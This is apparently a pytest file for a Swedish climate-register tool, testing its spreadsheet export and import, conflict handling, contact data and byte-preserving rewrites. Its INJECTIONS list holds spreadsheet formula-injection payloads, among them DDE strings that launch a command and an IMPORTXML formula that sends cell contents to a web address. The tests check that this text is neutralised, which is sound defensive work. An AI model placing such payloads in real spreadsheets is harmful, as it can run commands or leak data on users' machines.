"""The secretariat's workbook: what an export holds, what an import makes of it, which bytes are written."""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from support.generated_registers import CHECKED_ON, accepted, folders

from klimatpuls.errors import UsageError
from klimatpuls.paths import REGISTERS_FOLDER
from klimatpuls.registers.checking import REGISTERS, check_folder, draft_folder
from klimatpuls.registers.desk import BASELINE, DESK, LISTS, as_read, export
from klimatpuls.registers.desk_import import Plan, plan_import
from klimatpuls.registers.importing import import_file
from klimatpuls.registers.marking import AUTHOR, write_marked_copy
from klimatpuls.registers.reading import RegisterError
from klimatpuls.registers.sheets import GUIDE, add_register, columns_of, new_workbook, workbook_bytes
from klimatpuls.registers.values import swedish_cell, swedish_text, value_of
from klimatpuls.registers.writing import file_text

TODAY = dt.date(2026, 11, 28)
EXAMPLES = int(os.environ.get("KLIMATPULS_EXAMPLES", "20"))
INJECTIONS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","Klicka")', "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\n=1+1", "\u200b=1+1", " =1+1", "@SUM(A1)", "#N/A",
]  # fmt: skip
"""Texts that some spreadsheet program would run, or take for something else than text."""


def content(folder: Path) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in folder.iterdir()}


def exported(folder: Path, path: Path, **options: Any) -> Path:
    path.write_bytes(export(folder, today=TODAY, **options))
    return path


def edited(path: Path, sheet: str, **cells: Any) -> Path:
    """Write cells of a sheet by their places, as a person would."""
    book = openpyxl.load_workbook(path)
    for place, value in cells.items():
        book[sheet][place] = value
    book.save(path)
    return path


def planned(path: Path, folder: Path, contacts: Path | None = None) -> Plan:
    plan = plan_import(path, folder, contacts=contacts, today=TODAY)
    assert plan is not None
    return plan


def refused(path: Path, folder: Path) -> list[str]:
    before = content(folder)
    with pytest.raises(RegisterError) as caught:
        planned(path, folder)
    assert content(folder) == before
    return [mistake.swedish for mistake in caught.value.mistakes]


# ---------------------------------------------------------------- what an export holds


def test_the_workbook_is_in_swedish_with_lists_help_and_protected_codes(sound: Path, tmp_path: Path) -> None:
    assert export(sound, today=TODAY) == export(sound, today=TODAY), "equal registers give equal bytes"
    book = openpyxl.load_workbook(exported(sound, tmp_path / "a.xlsx"))
    titles = [register.title for register in DESK]
    assert book.sheetnames == [GUIDE, *titles, LISTS, BASELINE]
    assert (book[LISTS].sheet_state, book[BASELINE].sheet_state) == ("hidden", "veryHidden")
    for register in DESK:
        sheet = book[register.title]
        assert sheet.protection.sheet
        assert sheet.freeze_panes == "B2"
        helped = {
            str(rule.sqref).partition("2:")[0]
            for rule in sheet.data_validations.dataValidation
            if rule.prompt and rule.showInputMessage
        }
        assert helped == {cell.column_letter for cell in sheet[1]}, "every column explains itself"
        head = {cell.value: cell.column_letter for cell in sheet[1]}
        assert sheet.column_dimensions[head.get("Kommunkod", "A")].protection.locked == ("Kommunkod" in head)
    targets = book["Mål"]
    row = {cell.value: targets.cell(3, cell.column) for cell in targets[1]}
    assert (row["Mål-id"].value, row["Medlem"].value, row["Kommunkod"].value) == (
        "tierp_2030",
        "Tierp",
        "0360",
    )
    assert [row[name].protection.locked for name in ("Mål-id", "Medlem", "Kommunkod", "Målår")] == [
        True, True, True, False
    ]  # fmt: skip
    assert (row["Procent under basåret"].value, row["Procent under basåret"].number_format) == (0.63, "0%")
    assert row["Beslutsdag"].value == dt.datetime.fromisoformat("2024-06-17")
    assert (row["Måltyp"].value, row["Delmål"].value) == ("minskning i procent", "2027:50 %")
    rules = {str(rule.sqref): rule.formula1 for rule in targets.data_validations.dataValidation}
    assert rules["B2:B2000"] == "'Medlemmar'!$A$2:$A$2000"
    assert '"minskning i procent,fast nivå' in rules["E2:E2000"]
    assert [book["Medlemmar"]["A1"].value, book["Medlemmar"]["A14"].value] == ["Namn", "Landskrona"]
    measure = {cell.value: book["Åtgärder"].cell(2, cell.column).value for cell in book["Åtgärder"][1]}
    assert measure["Effekt per år i ton"] == "2026:120,5|2030:400"
    assert (measure["Sektor"], measure["Status"]) == ("Transporter", "pågående")


def test_the_guide_and_the_help_are_in_swedish(sound: Path, tmp_path: Path) -> None:
    contacts = REGISTERS_FOLDER / "contacts.example.csv"
    book = openpyxl.load_workbook(exported(sound, tmp_path / "a.xlsx", contacts=contacts))
    english = re.compile(r"\b(the|of|and|is|its|empty|with|by|day|year|which|link)\b", re.IGNORECASE)
    texts = [
        str(cell.value) for row in book[GUIDE].iter_rows() for cell in row if cell.column != 3 and cell.value
    ]
    texts += [
        str(text)
        for sheet in book.worksheets
        for rule in sheet.data_validations.dataValidation
        for text in (rule.prompt, rule.promptTitle, rule.error)
        if text
    ]
    assert [text for text in texts if english.search(text)] == []
    assert len(set(texts)) > 150


@pytest.mark.parametrize("register", [*DESK], ids=lambda register: register.name)
def test_every_value_of_a_register_is_shown_so_that_it_is_read_back(sound: Path, register: Any) -> None:
    for record in check_folder(sound).of(register.name):
        assert as_read(register, record.values) == record.values


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_text_that_a_spreadsheet_would_run_stays_text(text: str) -> None:
    book = new_workbook()
    column = columns_of(REGISTERS["targets"])["title_sv"]
    add_register(book, "Mål", [column], [[text]])
    body = workbook_bytes(book)
    with zipfile.ZipFile(io.BytesIO(body)) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert 't="e"' not in sheet
    cell = openpyxl.load_workbook(io.BytesIO(body))["Mål"]["A2"]
    assert (cell.data_type, cell.value) == ("s", text)
    assert cell.quotePrefix == (text[0] in "=+-@")


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_register_with_such_a_text_is_refused_in_yaml_too(sound: Path, text: str) -> None:
    import yaml

    targets = sound / "targets.yaml"
    document = yaml.safe_load(targets.read_text(encoding="utf-8"))
    document["targets"][0]["title_sv"] = text
    targets.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    (mistake,) = check_folder(sound).mistakes
    assert (mistake.file, mistake.place.en) == ("targets.yaml", "entry 1 (tierp_2025)")
    with pytest.raises(RegisterError):
        export(sound, today=TODAY)


@pytest.mark.parametrize(
    "text", ["_x0041_", "a_x000D_b", "”citat” & <b>", "två\nrader", "🌍", "a\ufffdb"[:1]]
)
def test_a_text_with_signs_of_the_format_comes_back_the_same(sound: Path, tmp_path: Path, text: str) -> None:
    evidence = sound / "climate_plans.csv"
    evidence.write_text(
        evidence.read_text(encoding="utf-8").replace("Klimatprogram", f'"{text}"'), encoding="utf-8"
    )
    assert any(record.values["title"] == text for record in check_folder(sound).of("climate_plans")[1:2])
    assert planned(exported(sound, tmp_path / "a.xlsx"), sound).changes == ()


@pytest.mark.parametrize(
    ("value", "column", "cell", "text"),
    [
        (63, {"type": "number", "x-unit": "percent"}, 0.63, "63 %"),
        (62.5, {"type": "number", "x-unit": "percent"}, 0.625, "62,5 %"),
        (0.16, {"type": "number", "x-unit": "fraction"}, 0.16, "16 %"),
        (1e-30, {"type": "number", "x-unit": "fraction"}, 1e-30, "1e-28 %"),
        (1200.5, {"type": "number"}, 1200.5, "1200,5"),
        (True, {"type": "boolean"}, "ja", "ja"),
        ("2024-06-17", {"type": "string", "format": "date"}, dt.date(2024, 6, 17), "2024-06-17"),
        ("own_series:egna", REGISTERS["targets"].shape.columns["boundary"], "egen serie: egna",
         "egen serie: egna"),
        (["waste", "transport"], REGISTERS["sector_lists"].shape.columns["sector_codes"],
         "Avfall (inklusive avlopp)|Transporter", "Avfall (inklusive avlopp)|Transporter"),
        ({"2030": 1.125}, {"type": "object"}, "2030:1,1250", "2030:1,1250"),
        (None, {"type": "number"}, None, ""),
    ],
)  # fmt: skip
def test_a_value_in_swedish(value: Any, column: dict[str, Any], cell: Any, text: str) -> None:
    assert swedish_cell(value, column) == cell
    assert swedish_text(value, column) == text
    assert value_of(swedish_cell(value, column), column) == value


# ---------------------------------------------------------------- there and back


@pytest.mark.parametrize("own", [True, False], ids=["the project's", "with rows"])
def test_an_export_without_a_change_changes_nothing(sound: Path, tmp_path: Path, own: bool) -> None:
    folder = REGISTERS_FOLDER if own else sound
    plan = planned(exported(folder, tmp_path / "a.xlsx"), folder)
    assert list(plan.lines()) == ["Inget ändrat."]
    assert plan.texts == {}


@given(added=folders())
@settings(
    max_examples=EXAMPLES,
    deadline=None,
    phases=(Phase.explicit, Phase.reuse, Phase.generate),  # to shrink an example takes minutes
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)
def test_whatever_the_check_accepts_comes_back_equal(
    tmp_path_factory: pytest.TempPathFactory, added: dict[str, Any]
) -> None:
    work = tmp_path_factory.mktemp("desk")
    folder, other = work / "registers", work / "other"
    accepted(folder, added)
    path = work / "a.xlsx"
    path.write_bytes(export(folder, today=CHECKED_ON))
    plan = plan_import(path, folder, today=CHECKED_ON)
    assert plan is not None
    assert list(plan.lines()) == ["Inget ändrat."]

    # Into empty files every row is new, so what is read back is what is written.
    shutil.copytree(folder, other)
    for register in DESK:
        file = other / register.file
        head = file.read_text(encoding="utf-8").splitlines()[0] if register.is_spreadsheet else "targets: []"
        file.write_text(f"{head}\n", encoding="utf-8")
    book = openpyxl.load_workbook(path)
    sheet = book[BASELINE]
    kept = [row for row in sheet.iter_rows(values_only=True) if not row[1] or row[0] == "register"]
    sheet.delete_rows(1, sheet.max_row)
    for row in kept:
        sheet.append(row)
    book.save(path)
    plan = plan_import(path, other, today=CHECKED_ON)
    assert plan is not None
    plan.apply()
    wanted, found = check_folder(folder, CHECKED_ON), check_folder(other, CHECKED_ON)
    assert found.mistakes == ()
    for register in DESK:
        assert [record.values for record in found.of(register.name)] == [
            as_read(register, record.values) for record in wanted.of(register.name)
        ]


# ---------------------------------------------------------------- both sides changed


def test_rows_that_only_the_files_changed_are_kept(sound: Path, tmp_path: Path) -> None:
    path = edited(exported(sound, tmp_path / "a.xlsx"), "Klimatlöften", E2="Fossilfria bussar")
    measures = sound / "measures.csv"
    lines = measures.read_text(encoding="utf-8").splitlines(keepends=True)
    measures.write_text("".join(lines[:-1]), encoding="utf-8")
    plan = planned(path, sound)
    assert "Åtgärder: registret har ändrats sedan exporten (rader: 1); de ändringarna behålls." in list(
        plan.lines()
    )
    plan.apply()
    assert [record.values["wording"] for record in check_folder(sound).of("pledges")] == ["Fossilfria bussar"]
    assert measures.read_text(encoding="utf-8") == "".join(lines[:-1])


@pytest.mark.parametrize(
    ("sheet", "cells", "old", "new", "told"),
    [
        ("Klimatlöften", {"E2": "Två"}, "Fossilfri flotta", "Tre",
         "rad 2, cell A2: Tierp, tierp-l1: raden är"),
        ("Klimatlöften", {"E2": "Två"}, "tierp-l1,0360,Länsstyrelsen", "tierp-l9,0360,Länsstyrelsen",
         "rad 2, cell A2: Tierp, tierp-l1: raden är"),
        ("Klimatlöften", None, "Fossilfri flotta", "Tre", "[Klimatlöften]: Tierp, tierp-l1: raden är"),
    ],
    ids=["both changed", "changed and removed", "removed and changed"],
)  # fmt: skip
def test_a_row_changed_on_both_sides_stops_the_import(
    sound: Path, tmp_path: Path, sheet: str, cells: dict[str, str] | None, old: str, new: str, told: str
) -> None:
    path = exported(sound, tmp_path / "a.xlsx")
    if cells:
        edited(path, sheet, **cells)
    else:
        book = openpyxl.load_workbook(path)
        book[sheet].delete_rows(2)
        book.save(path)
    pledges = sound / "pledges.csv"
    pledges.write_text(pledges.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
    (line,) = refused(path, sound)
    assert told in line
    assert line.endswith("Exportera på nytt och gör ändringen i den nya arbetsboken.")


def test_the_same_change_on_both_sides_is_none(sound: Path, tmp_path: Path) -> None:
    path = edited(exported(sound, tmp_path / "a.xlsx"), "Klimatlöften", E2="Tre")
    pledges = sound / "pledges.csv"
    pledges.write_text(
        pledges.read_text(encoding="utf-8").replace("Fossilfri flotta", "Tre"), encoding="utf-8"
    )
    plan = planned(path, sound)
    assert (plan.changes, plan.texts) == ((), {})


def test_a_removed_row_that_others_need_is_refused(sound: Path, tmp_path: Path) -> None:
    path = exported(sound, tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    book["Åtgärder"].delete_rows(2)
    book.save(path)
    (line,) = refused(path, sound)
    assert "[Klimatlöften], rad 2" in line
    assert "tierp-buss" in line


# ---------------------------------------------------------------- sheets and contacts


def test_a_sheet_that_is_gone_leaves_its_register_alone(sound: Path, tmp_path: Path) -> None:
    path = exported(sound, tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    del book["Klimatlöften"]
    book.save(path)
    assert list(planned(path, sound).lines()) == [
        "Bladet Klimatlöften saknas; registret lämnas som det är.",
        "Inget ändrat.",
    ]
    book.create_sheet("Idéer").append(["Idé"])
    book["Idéer"].append(["Mer buss"])
    book.save(path)
    (line,) = refused(path, sound)
    assert 'inget register heter "Idéer"' in line


def test_contacts_are_in_the_workbook_only_when_asked_for(sound: Path, tmp_path: Path) -> None:
    contacts = tmp_path / "contacts.csv"
    shutil.copy(REGISTERS_FOLDER / "contacts.example.csv", contacts)
    without = exported(sound, tmp_path / "utan.xlsx")
    with zipfile.ZipFile(without) as parts:
        assert not any(b"klimat@example.org" in parts.read(name) for name in parts.namelist())
    assert planned(without, sound, contacts).changes == ()
    path = exported(sound, tmp_path / "med.xlsx", contacts=contacts)
    with pytest.raises(UsageError, match="KLIMATPULS_CONTACTS"):
        plan_import(path, sound, today=TODAY)
    assert planned(path, sound, contacts).changes == ()
    edited(path, "Kontakter", E2="miljo@example.org")
    plan = planned(path, sound, contacts)
    assert "miljo@" not in "".join(plan.lines())
    plan.apply()
    assert "Ordförande i kommunstyrelsen,miljo@example.org" in contacts.read_text(encoding="utf-8")
    told = edited(path, "Kontakter", E2="anna.ek@example.org")
    with pytest.raises(RegisterError) as caught:
        planned(told, sound, contacts)
    assert "anna" not in str(caught.value)


@pytest.mark.parametrize("key", ["x", "7", "null"])
def test_a_damaged_hidden_sheet_is_a_mistake(sound: Path, tmp_path: Path, key: str) -> None:
    path = edited(exported(sound, tmp_path / "a.xlsx"), BASELINE, B3=key)
    (line,) = refused(path, sound)
    assert "rad 3: exportens dolda blad kan inte läsas" in line


def test_a_file_of_contacts_that_is_a_workbook_is_not_overwritten(sound: Path, tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(["region_code", "kind", "role", "address"])
    book.active.append(["0360", "elected", "Ordförande", "kommunstyrelsen@example.org"])
    contacts = tmp_path / "kontakter.xlsx"
    book.save(contacts)
    before = contacts.read_bytes()
    path = exported(sound, tmp_path / "a.xlsx", contacts=contacts)
    assert planned(path, sound, contacts).changes == ()
    edited(path, "Kontakter", D2="Vice ordförande")
    with pytest.raises(UsageError, match=r"kontakter\.xlsx"):
        planned(path, sound, contacts)
    assert contacts.read_bytes() == before


def test_what_a_member_filled_in_is_no_workbook_of_the_secretariat(sound: Path, tmp_path: Path) -> None:
    from klimatpuls.registers.template import build_template

    path = tmp_path / "mall.xlsx"
    path.write_bytes(build_template())
    assert plan_import(path, sound, today=TODAY) is None
    assert import_file(path, sound, today=TODAY) == ()


@pytest.mark.parametrize(
    ("code", "name", "read"),
    [(360, None, "0360"), ("360", "Tierp", "0360"), (3, None, "03"), (None, "Tierps kommun", "0360")],
)
def test_a_code_is_found_by_what_is_left_of_it(
    sound: Path, tmp_path: Path, code: Any, name: str | None, read: str
) -> None:
    path = edited(
        exported(sound, tmp_path / "a.xlsx"), "Svar i omgångar", A5=name, B5=code, D5=dt.date(2026, 7, 1)
    )
    plan = planned(path, sound)
    (change,) = plan.changes
    assert change.new is not None
    assert change.new["region_code"] == read
    told = [note.sv for note in plan.notes]
    assert told == ([] if code is None else [
        f"a.xlsx [Svar i omgångar], cell B5: {code} läses som {read} "
        f"({'Tierp' if read == '0360' else 'Uppsala län'}), som tappat sin inledande nolla."
    ])  # fmt: skip


def test_a_lost_zero_against_the_name_is_a_mistake(sound: Path, tmp_path: Path) -> None:
    path = edited(
        exported(sound, tmp_path / "a.xlsx"), "Svar i omgångar", A5="Lund", B5=360, D5=dt.date(2026, 7, 1)
    )
    (line,) = refused(path, sound)
    assert 'raden har koden 0360 (Tierp) men anger "Lund"' in line


# ---------------------------------------------------------------- the marked copy


def test_a_marked_copy_is_corrected_and_imported(sound: Path, tmp_path: Path) -> None:
    path = edited(exported(sound, tmp_path / "a.xlsx"), "Mål", F3="snart", B2="Lund")
    before = path.read_bytes()

    def marked(of: Path) -> Path:
        with pytest.raises(RegisterError) as caught:
            planned(of, sound)
        copy = write_marked_copy(of, caught.value.mistakes)
        assert copy is not None
        return copy

    copy = marked(path)
    assert (copy.name, path.read_bytes()) == ("a – fel.xlsx", before)
    book = openpyxl.load_workbook(copy)
    assert [cell.coordinate for row in book["Mål"].iter_rows() for cell in row if cell.comment] == [
        "B2",
        "F3",
    ]
    assert book["Mål"]["F3"].comment.author == AUTHOR
    assert book["Mål"].data_validations.dataValidation, "the lists are kept"
    assert marked(edited(copy, "Mål", F3=2031)) == copy
    book = openpyxl.load_workbook(copy)
    assert [cell.coordinate for row in book["Mål"].iter_rows() for cell in row if cell.comment] == ["B2"]
    assert book["Mål"]["F3"].fill.fill_type is None
    assert book.sheetnames.count("Fel") == 1
    plan = planned(edited(copy, "Mål", B2="Tierp"), sound)
    assert [str(change) for change in plan.changes] == ["rad 3, Tierp, tierp_2030: målår 2030 → 2031"]


@pytest.mark.parametrize(
    "body", [b"a,b\n1,2\n", b"PK\x03\x04 half", b""], ids=["CSV", "half a zip", "nothing"]
)
def test_what_is_no_workbook_has_no_marked_copy(tmp_path: Path, body: bytes) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(body)
    assert write_marked_copy(path, []) is None
    assert list(tmp_path.iterdir()) == [path]


# ---------------------------------------------------------------- the bytes of the files


def rewritten(folder: Path, name: str, **changes: Any) -> str:
    """The text of a register whose first record has other values."""
    register = REGISTERS[name]
    held = draft_folder(folder)[name].records
    assert held is not None
    from dataclasses import replace

    first = replace(held[0], values={**held[0].values, **changes})
    return file_text(register, (folder / register.file).read_bytes(), held, [first, *held[1:]])


def test_lines_of_rows_that_did_not_change_keep_their_bytes(sound: Path) -> None:
    file = sound / "evidence.csv"
    text = (
        "evidence_id,region_code,criterion,kind,stated_on,stated_by,inventory_year,url\r\n"
        "e1,0360,action_plan,document,2025-02-01,klimatstrateg,,https://example.org/e1\r\n"
        '"e2", 1281 ,"Inventering",self_confirmed,2025-02-01,"klimat\r\nstrateg",2023,\r\n'
        "\r\n"
        "e3,1281,targets,self_confirmed,2025-02-01,klimatstrateg,,"
    )
    for spelled in (text, text.replace(",", ";"), "\ufeff" + text, "sep=,\r\n" + text):
        file.write_bytes(spelled.encode())
        after = rewritten(sound, "evidence", stated_by="chef")
        gone = [line for line in spelled.splitlines() if line and line not in after.splitlines()]
        assert [line.replace(";", ",") for line in gone] == [text.splitlines()[1]]
        assert after.startswith(spelled[:8])


def test_comments_of_yaml_stay_with_their_entries(sound: Path) -> None:
    file = sound / "targets.yaml"
    text = "# Top.\n" + file.read_text(encoding="utf-8").replace(
        "  - target_id: tierp_2030\n", "\n  # Of 2030.\n  - target_id: tierp_2030  # the new one\n"
    )
    file.write_text(text, encoding="utf-8")
    after = rewritten(sound, "targets", title_sv="Äldre mål")
    kept = text[text.index("\n  # Of 2030.") :]
    assert after.endswith(kept)
    assert after.startswith("# Top.\ntargets:\n  - target_id: tierp_2025\n")
    assert "    decided_on: 2018-06-17\n" in after


def test_a_file_whose_lines_cannot_be_kept_is_written_anew(sound: Path) -> None:
    file = sound / "pledges.csv"
    file.write_bytes(file.read_text(encoding="utf-8").encode("cp1252"))
    assert "tierp-l1,0360,Länsstyrelsen,Tre," in rewritten(sound, "pledges", wording="Tre")
    import yaml

    entries = yaml.safe_load((sound / "targets.yaml").read_text(encoding="utf-8"))
    (sound / "targets.yaml").write_text(
        "# Top.\n" + yaml.safe_dump(entries, default_flow_style=True, allow_unicode=True), encoding="utf-8"
    )
    after = rewritten(sound, "targets", title_sv="Äldre mål")
    assert after.startswith("# Top.\ntargets:\n- target_id: tierp_2025\n")
